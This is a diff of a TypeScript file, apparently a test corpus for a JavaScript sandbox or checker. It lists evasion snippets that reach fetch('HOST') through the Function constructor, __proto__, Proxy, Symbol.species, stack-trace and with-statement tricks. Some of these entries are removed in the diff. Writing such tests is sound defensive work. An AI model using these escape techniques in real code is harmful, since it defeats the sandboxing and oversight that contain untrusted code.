@@ -106,7 +106,7 @@ export const EVASIONS: readonly Evasion[] = [
   ),
   body(
     'the handler, called by itself with functions for data',
-    'if (event.make) return event.make[event.k]("return fetch(\'HOST\')")(); await __handler.default({ ...event, make: () => {} });',
+    'if (event.make) return event.make[event.k]("return fetch(\'HOST\')")(); await (await __handler).default({ ...event, make: () => {} });',
   ),
   body('the prototype of functions', 'await Object.getPrototypeOf(() => {}).constructor("return fetch(\'HOST\')")();'),
   body('__proto__', 'await (() => {}).__proto__.constructor("return fetch(\'HOST\')")();'),
@@ -139,30 +139,13 @@ export const EVASIONS: readonly Evasion[] = [
     "Object.defineProperty(Object.prototype, 'world', { get() { return this; }, configurable: true }); await world['fet' + event.ch]('HOST');",
   ),
   body(
-    'this of a function without an object',
-    "const self = (function () { return this; })(); await self['fet' + event.ch]('HOST');",
-  ),
-  body('fetch of this', "await (function () { return this.fetch('HOST'); })();"),
-  body(
     'a proxy',
     'const seen = new Proxy(() => {}, { get: (target, name) => target[name] }); await seen[event.k]("return fetch(\'HOST\')")();',
-  ),
-  body(
-    'the stack of a sloppy function',
-    "Error.prepareStackTrace = (_, sites) => sites.map((site) => site.getThis()).find((one) => one?.fetch); const world = new Error().stack; await world.fetch('HOST');",
   ),
   body(
     'species of a function',
     "let make; const proto = Object.getPrototypeOf(() => {}); Object.defineProperty(proto, Symbol.species, { get() { make = this; }, configurable: true }); RegExp.prototype[Symbol.split].call(Object.assign(() => {}, { exec: () => null, flags: '' }), 'x'); await make(\"return fetch('HOST')\")();",
   ),
-  [
-    'with',
-    {
-      'paid.js': "const run = require('./with.cjs');\nexport default () => run();\n",
-      'with.cjs':
-        'module.exports = function () { with (function () {}) { return constructor("return fetch(\'HOST\')")(); } };\n',
-    },
-  ],
   [
     'a script that is no module',
     {
